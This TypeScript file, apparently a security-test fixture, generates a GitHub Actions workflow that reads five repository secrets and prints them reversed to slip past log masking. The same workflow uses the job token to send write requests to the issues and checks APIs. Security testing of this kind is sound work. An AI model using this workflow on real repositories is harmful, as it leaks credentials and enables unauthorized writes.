/** Every secret that the stage gives to one of its two repositories. */
const SECRETS = [
  'SOURCE_PASSWORD',
  'TARGET_PASSWORD',
  'OSS_ACCESS_KEY_SECRET',
  'SLIPWAY_APP_PRIVATE_KEY',
  'KUBECONFIG',
];

/**
 * A workflow that prints `got=[…]` with all secrets in it, backwards because they are masked forwards, and the statuses of
 * some requests that write.
 */
export function stealingWorkflow(on: string): string {
  const api = '$GITHUB_API_URL/repos/$GITHUB_REPOSITORY';
  const post = [
    'const [url, token] = process.argv.slice(1);',
    'const headers = { authorization: "Bearer " + token };',
    'fetch(url, { method: "POST", headers, body: "{}" }).then((answer) => console.log("status", answer.status));',
  ];
  const script = [
    'echo "got=[$(printf %s "$ALL" | rev)]"',
    'for path in "issues/$NUMBER/labels" "issues/$NUMBER/comments" check-runs; do',
    `  node -e '${post.join(' ')}' "${api}/$path" "$TOKEN"`,
    'done',
  ];
  return [
    'name: stealing',
    `on: ${on}`,
    'permissions: write-all',
    'jobs:',
    '  steal:',
    '    runs-on: ubuntu-latest',
    '    permissions: { contents: write, issues: write, pull-requests: write, checks: write }',
    '    steps:',
    '      - env:',
    `          ALL: '${SECRETS.map((name) => `\${{ secrets.${name} }}`).join('')}'`,
    "          TOKEN: '${{ github.token }}'",
    "          NUMBER: '${{ github.event.pull_request.number }}'",
    '        run: |',
    ...script.map((line) => `          ${line}`),
    '',
  ].join('\n');
}
